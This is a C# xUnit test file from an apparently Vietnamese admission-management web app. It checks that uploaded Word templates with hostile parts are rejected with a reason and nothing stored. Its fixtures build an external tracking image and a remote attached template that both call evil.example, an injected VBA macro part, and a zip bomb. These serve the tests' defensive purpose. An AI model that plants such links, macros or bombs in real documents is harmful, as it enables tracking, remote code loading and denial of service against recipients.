using System.IO.Compression;
using System.Net;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using Microsoft.EntityFrameworkCore;
using PhatTrienDangVien.Core.Admission;
using PhatTrienDangVien.Web.Documents;
using PhatTrienDangVien.Web.Tests.Infrastructure;
using Shouldly;
using Xunit;
using static PhatTrienDangVien.Web.Tests.Documents.FormCases;

namespace PhatTrienDangVien.Web.Tests.Documents;

/// <summary>
/// A template's package is checked before it is read: an external link, a macro or a zip bomb built from the real
/// default template is refused with its reason and nothing stored; a logo image is still accepted and issued.
/// </summary>
public abstract class TemplatePackageTests<TApp>(TApp app) where TApp : AppFactory
{
    private const string Form = "5-KND";

    private static byte[] Default() => FormCatalog.Find(Form)!.DefaultTemplate();

    /// <summary>The default template changed through the Open XML SDK, as Word would save it.</summary>
    private static byte[] WithSdk(Action<WordprocessingDocument> change)
    {
        using var stream = new MemoryStream();
        stream.Write(Default());
        stream.Position = 0;
        using (var doc = WordprocessingDocument.Open(stream, true)) change(doc);
        return stream.ToArray();
    }

    /// <summary>The default template changed at the zip level, for what the SDK would not write into a .docx.</summary>
    private static byte[] WithZip(Action<ZipArchive> change)
    {
        using var stream = new MemoryStream();
        stream.Write(Default());
        stream.Position = 0;
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true)) change(zip);
        return stream.ToArray();
    }

    private static void Rewrite(ZipArchive zip, string name, Func<string, string> change)
    {
        var entry = zip.GetEntry(name)!;
        string text;
        using (var reader = new StreamReader(entry.Open())) text = reader.ReadToEnd();
        entry.Delete();
        using var writer = new StreamWriter(zip.CreateEntry(name).Open(), new UTF8Encoding(false));
        writer.Write(change(text));
    }

    private static void Add(ZipArchive zip, string name, byte[] content)
    {
        using var s = zip.CreateEntry(name, CompressionLevel.Optimal).Open();
        s.Write(content);
    }

    private static byte[] Build(string kind) => kind switch
    {
        "external-image" => WithSdk(d => d.MainDocumentPart!.AddExternalRelationship(
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri("http://evil.example/track.png"))),
        "attached-template" => WithSdk(d =>
        {
            var settings = d.MainDocumentPart!.DocumentSettingsPart ?? d.MainDocumentPart.AddNewPart<DocumentSettingsPart>();
            settings.Settings ??= new DocumentFormat.OpenXml.Wordprocessing.Settings();
            settings.Settings.Save();
            settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("http://evil.example/normal.dotm"));
        }),
        "macro" => WithZip(z =>
        {
            Add(z, "word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0, 0, 0]);
            Rewrite(z, "[Content_Types].xml", t => t.Replace("</Types>",
                "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>", StringComparison.Ordinal));
            Rewrite(z, "word/_rels/document.xml.rels", t => t.Replace("</Relationships>",
                "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>", StringComparison.Ordinal));
        }),
        // 6 MB of spaces deflate to a few KB: the package is small, its inflated size is not.
        "bomb" => WithZip(z =>
        {
            Add(z, "customXml/item1.xml", Encoding.UTF8.GetBytes("<r>" + new string(' ', 6 * 1024 * 1024) + "</r>"));
            Rewrite(z, "[Content_Types].xml", t => t.Contains("Extension=\"xml\"", StringComparison.Ordinal) ? t
                : t.Replace("</Types>", "<Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>", StringComparison.Ordinal));
        }),
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    private static async Task<HttpResponseMessage> UploadAsync(Browser b, string fileName, byte[] content)
    {
        var (_, page) = await b.GetAsync("/Documents");
        var token = page.QuerySelector("input[name=__RequestVerificationToken]")!.GetAttribute("value")!;
        using var multipart = new MultipartFormDataContent
        {
            { new StringContent(token), "__RequestVerificationToken" },
            { new ByteArrayContent(content), "file", fileName },
        };
        return await b.Client.PostAsync($"/Documents?handler=Upload&form={Form}", multipart);
    }

    private Task<int> TemplatesAsync() => app.WithSystemScopeAsync(db => db.FormTemplates.CountAsync());

    [Theory]
    [InlineData("external-image", "Mẫu có liên kết ra ngoài: http://evil.example/track.png")]
    [InlineData("attached-template", "Mẫu có liên kết ra ngoài: http://evil.example/normal.dotm")]
    [InlineData("macro", "Mẫu có thành phần không được phép: macro (word/vbaProject.bin)")]
    [InlineData("bomb", "Tệp mẫu quá lớn khi giải nén")]
    public async Task A_hostile_template_is_refused_with_its_reason_and_nothing_is_stored(string kind, string message)
    {
        var hostile = Build(kind);
        hostile.Length.ShouldBeLessThan((int)FormTemplates.MaxBytes);
        // The same file passes once the hostile part is left out: it is that part, not the template, that is refused.
        DocxPackage.Problem(Default()).ShouldBeNull();
        DocxPackage.Problem(hostile).ShouldNotBeNull().ShouldStartWith(message);

        var office = await Browser.LoginAsync(app, "office");
        var before = await TemplatesAsync();
        var refused = await UploadAsync(office, "mau.docx", hostile);
        refused.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        WebUtility.HtmlDecode(await refused.Content.ReadAsStringAsync()).ShouldContain(message);
        (await TemplatesAsync()).ShouldBe(before);
        // Defensively, filling refuses it too.
        Should.Throw<DocxTemplate.UnsafeTemplateException>(() => DocxTemplate.Fill(hostile, new Dictionary<string, string>()));
    }

    [Fact]
    public async Task A_template_with_a_png_logo_is_accepted_and_its_forms_carry_the_logo()
    {
        var cases = await EnsureAsync(app);
        var png = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");
        var withLogo = WithSdk(d =>
        {
            var image = d.MainDocumentPart!.AddImagePart(ImagePartType.Png);
            using var s = new MemoryStream(png);
            image.FeedData(s);
        });
        DocxPackage.Problem(withLogo).ShouldBeNull();

        var office = await Browser.LoginAsync(app, "office");
        var before = await TemplatesAsync();
        var ok = await UploadAsync(office, "Mẫu có logo.docx", withLogo);
        ok.StatusCode.ShouldBe(HttpStatusCode.Redirect, await ok.Content.ReadAsStringAsync());
        try
        {
            (await TemplatesAsync()).ShouldBe(before + 1);
            var secretary = await Browser.LoginAsync(app, "secretary");
            var issued = await IssueAsync(secretary, cases.A, await StepAsync(app, cases.A, AdmissionStepKind.Opinions), Form);
            using var doc = WordprocessingDocument.Open(new MemoryStream(issued), false);
            doc.MainDocumentPart!.ImageParts.Count().ShouldBe(1);
        }
        finally
        {
            var reset = await office.PostRawAsync($"/Documents?handler=Reset&form={Form}", [], "/Documents");
            reset.StatusCode.ShouldBe(HttpStatusCode.Redirect);
        }
        (await TemplatesAsync()).ShouldBe(before);
    }
}

public sealed class TemplatePackageTests_Sqlite(SqliteApp app) : TemplatePackageTests<SqliteApp>(app), IClassFixture<SqliteApp>;

public sealed class TemplatePackageTests_Postgres(PostgresApp app) : TemplatePackageTests<PostgresApp>(app), IClassFixture<PostgresApp>;
